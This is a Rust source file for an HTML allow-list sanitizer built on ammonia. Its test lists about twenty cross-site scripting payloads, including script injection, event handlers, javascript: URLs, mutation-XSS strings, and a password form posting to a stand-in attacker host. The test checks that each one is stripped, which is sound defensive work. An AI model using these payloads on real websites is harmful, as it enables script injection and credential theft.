//! The allow-list that every rendered text passes.

use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use ammonia::Builder;

const TAGS: [&str; 33] = [
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "p",
    "strong",
    "em",
    "a",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "blockquote",
    "aside",
    "div",
    "section",
    "img",
    "sup",
    "br",
    "hr",
    "bdi",
    "span",
];

const ATTRIBUTES: [(&str, &[&str]); 14] = [
    ("a", &["href", "title", "id", "rel", "aria-label"]),
    ("img", &["src", "alt", "title", "loading", "decoding"]),
    ("aside", &["role"]),
    ("section", &["role"]),
    ("ol", &["start"]),
    ("li", &["id"]),
    ("th", &["scope"]),
    ("div", &["tabindex"]),
    ("span", &["data-gap"]),
    ("h2", &["id"]),
    ("h3", &["id"]),
    ("h4", &["id"]),
    ("h5", &["id"]),
    ("h6", &["id"]),
];

const CLASSES: [(&str, &[&str]); 8] = [
    ("aside", &["callout", "callout-note", "callout-tip", "callout-important", "callout-warning", "callout-caution"]),
    ("p", &["callout-title"]),
    ("div", &["table-scroll", "footnotes"]),
    ("th", &["align-left", "align-center", "align-right"]),
    ("td", &["align-left", "align-center", "align-right"]),
    ("section", &["footnotes"]),
    ("sup", &["footnote-ref"]),
    ("a", &["footnote-back"]),
];

static CLEANER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let sets = |pairs: &[(&'static str, &[&'static str])]| -> HashMap<&'static str, HashSet<&'static str>> {
        pairs.iter().map(|(tag, values)| (*tag, values.iter().copied().collect())).collect()
    };
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(sets(&ATTRIBUTES))
        .allowed_classes(sets(&CLASSES))
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .link_rel(None);
    builder
});

/// Only what the allow-list names.
pub(super) fn clean(html: &str) -> String {
    CLEANER.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Even if the renderer let raw HTML pass, nothing active would be left.
    #[test]
    fn nothing_active_is_left() {
        for attack in [
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt&#58;alert(1)\">x</a>",
            "<a href=\" &#14;javascript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<svg onload=alert(1)><circle/></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<style>body{background:url(javascript:alert(1))}</style>",
            "<p style=\"background:url(//evil.example)\">x</p>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"evil.swf\"></object><embed src=evil.swf>",
            "<form action=\"https://evil.example\"><input name=password></form>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<details open ontoggle=alert(1)>x</details>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        ] {
            let clean = clean(attack).to_lowercase();
            for active in ["<script", "<svg", "<style", "<iframe", "<object", "<form", "<base", "<meta", "style="] {
                assert!(!clean.contains(active), "{attack} left {clean}");
            }
            for active in [" onerror=", " onload=", " ontoggle=", "=\"javascript:", "=\"data:", "=\"vbscript:"] {
                let tags: String = clean.split('<').skip(1).filter_map(|tag| tag.split('>').next()).collect();
                assert!(!tags.contains(active), "{attack} left {clean}");
            }
        }
    }
}
